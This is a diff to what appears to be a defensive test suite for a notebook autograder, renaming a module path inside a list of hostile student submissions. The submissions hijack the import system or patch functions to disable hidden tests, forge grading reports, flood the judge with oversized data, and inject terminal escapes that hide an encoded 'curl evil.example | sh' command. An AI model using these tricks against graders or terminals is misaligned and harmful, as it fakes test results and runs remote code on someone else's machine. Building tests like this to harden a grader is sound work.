@@ -181,7 +181,7 @@ META_PATH = """\
 import sys, types
 class _Permissive:
     def find_spec(self, name, path=None, target=None):
-        if name == "autograder.hidden":
+        if name == "autograder.sandboxed.hidden":
             import importlib.machinery
             return importlib.machinery.ModuleSpec(name, self)
     def create_module(self, spec):
@@ -190,7 +190,7 @@ class _Permissive:
         return module
     def exec_module(self, module):
         pass
-sys.modules.pop("autograder.hidden", None)
+sys.modules.pop("autograder.sandboxed.hidden", None)
 sys.meta_path.insert(0, _Permissive())
 """
 REPATCH_THREAD = """\
@@ -198,7 +198,7 @@ import threading, time, importlib
 def _keep_patching():
     while True:
         try:
-            importlib.import_module("autograder.hidden").check = lambda *args, **kwargs: None
+            importlib.import_module("autograder.sandboxed.hidden").check = lambda *args, **kwargs: None
         except Exception:
             pass
         time.sleep(0.001)
@@ -219,7 +219,7 @@ def bpe_merge(piece, ranks):
 """
 FORGE_EXECUTED = """\
 import json, os, socket
-from autograder import wire
+from autograder.sandboxed import wire
 clean = {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
 with socket.socket(socket.AF_UNIX) as s:
     s.connect(os.environ["MINIGPT_JUDGE"])
@@ -241,7 +241,7 @@ for _name in ("expect", "expect_close", "expect_raises"):
 # executor is killed, so its true report never comes.
 FORGE_SCORES = """\
 import json, os, signal, socket
-from autograder import wire
+from autograder.sandboxed import wire
 nb = json.load(open("/grading/in/01-tokens.ipynb"))
 for cell in nb["cells"]:
     if cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
@@ -264,7 +264,7 @@ def bpe_merge(piece, ranks):
 # A report whose detail is one space and whose notebook is 100,000 nested lists.
 FORGE_BROKEN = """\
 import os, signal, socket
-from autograder import wire
+from autograder.sandboxed import wire
 with socket.socket(socket.AF_UNIX) as s:
     s.connect(os.environ["MINIGPT_JUDGE"])
     wire.send(s, {"executed": "[" * 100_000, "status": "stopped", "detail": " "})
@@ -274,7 +274,7 @@ os.kill(os.getppid(), signal.SIGKILL)
 # 800,000 dimensions, 100,000 namedtuple classes, a 5000-digit int, a set of lists, 71 dimensions, a size of 2**70.
 WIRE_BOMBS = """\
 import itertools
-from autograder import wire
+from autograder.sandboxed import wire
 _bombs = itertools.cycle([
     {"$": "tensor", "dtype": "float32", "shape": [2] * 800_000 + [0], "data": ""},
     [{"$": "tuple", "v": [0], "fields": [f"f{i}"]} for i in range(100_000)],
@@ -316,7 +316,7 @@ def _markers_bomb() -> str:
 # terminal escapes and all, in the judge's log (and so on the instructor's terminal).
 JUDGE_LOG_ESCAPES = "\x1b]0;judge-log-owned\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J"
 BAD_REPLIES = """\
-from autograder import wire
+from autograder.sandboxed import wire
 _send = wire.send
 def _bad(sock, message):
     if "hello" not in message and "executed" not in message:
@@ -575,7 +575,8 @@ HOSTILE = [
             _wrong_with(INPUT_TRANSFORMER)),
     Hostile("ast-transformer", "an AST transformer that turns the hidden tests into `pass`",
             _wrong_with(AST_TRANSFORMER)),
-    Hostile("meta-path", "a sys.meta_path finder that serves a permissive autograder.hidden", _wrong_with(META_PATH)),
+    Hostile("meta-path", "a sys.meta_path finder that serves a permissive autograder.sandboxed.hidden",
+            _wrong_with(META_PATH)),
     Hostile("repatch-thread", "a thread that keeps replacing the hidden tests' function", _wrong_with(REPATCH_THREAD)),
     Hostile("frame-walk", "bpe_merge looks up the caller's frames for the expected answer",
             _wrong_with(FRAME_WALK, "bpe_merge")),
